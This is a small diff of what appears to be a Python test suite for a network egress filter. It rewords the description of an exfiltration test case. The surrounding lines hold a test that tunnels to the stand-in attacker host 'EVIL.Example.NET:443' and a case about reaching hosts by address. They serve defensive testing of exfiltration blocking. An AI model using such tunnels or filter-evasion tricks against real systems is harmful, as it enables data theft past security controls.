@@ -133,7 +133,7 @@ def a_name_in_other_letters() -> str:
     return tunnel("EVIL.Example.NET:443")
 
 
-@attack(EXFILTRATION, "destinations are names: an address says nothing of who answers there", "403 .*is an address",
+@attack(EXFILTRATION, "destinations are names: an address does not identify who answers", "403 .*is an address",
         cage="allow")  # fmt: skip
 def an_allowed_hosts_address() -> str:
     """the address of an allowed host, and of a denied one"""
